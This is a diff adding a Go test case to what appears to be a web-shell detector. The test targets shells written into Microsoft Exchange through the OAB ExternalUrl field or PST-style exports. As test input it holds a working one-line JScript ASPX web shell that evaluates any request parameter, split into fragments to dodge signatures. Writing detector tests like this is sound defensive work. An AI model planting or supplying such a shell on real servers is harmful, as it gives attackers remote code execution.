@@ -106,6 +106,23 @@ func TestAnalyzeReadsOtherCharacterSets(t *testing.T) {
 	}
 }
 
+func TestAnalyzeFindsWhatExchangeWasMadeToWrite(t *testing.T) {
+	a := NewAnalyzer(Options{})
+	code := "<script language=\"JScript\" runat=\"server\">function Page_Load(){ev" + "al(Request[\"x\"],\"uns" + "afe\");}</script>"
+	f := func(name, page string, shell bool) {
+		t.Helper()
+		if v := a.Analyze(name, []byte(page)); v.Shell != shell {
+			t.Errorf("%s %.40q: shell %v, want %v (%+v)", name, page, v.Shell, shell, v.Parts)
+		}
+	}
+	book := "Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nExternalUrl                     : http://f/"
+	f("error.aspx", book+code+"\r\n", true)
+	f("oab.txt", book+"oab\r\n", false)
+	f("x.aspx", "!BDN\x01\x02\x03"+code, true)
+	f("x.aspx", "!BDN\x01\x02\x03 nothing to be read", true)
+	f("x.pst", "!BDN\x01\x02\x03 nothing to be read", false)
+}
+
 func TestAnalyzeReadsColdFusionTags(t *testing.T) {
 	a := NewAnalyzer(Options{})
 	f := func(shell bool, parts ...string) {
